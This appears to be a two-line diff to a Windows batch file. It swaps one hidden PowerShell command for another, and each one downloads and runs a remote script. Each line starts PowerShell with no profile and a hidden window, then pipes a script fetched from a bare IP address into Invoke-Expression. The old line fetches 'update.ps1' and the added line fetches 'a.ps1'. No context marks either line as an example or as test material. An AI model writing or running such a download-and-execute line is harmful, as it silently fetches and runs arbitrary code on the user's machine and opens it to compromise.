@@ -1,2 +1,2 @@
-REM run 4912 v1
-powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')"
+REM setup 3307 v1
+powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/a.ps1')"
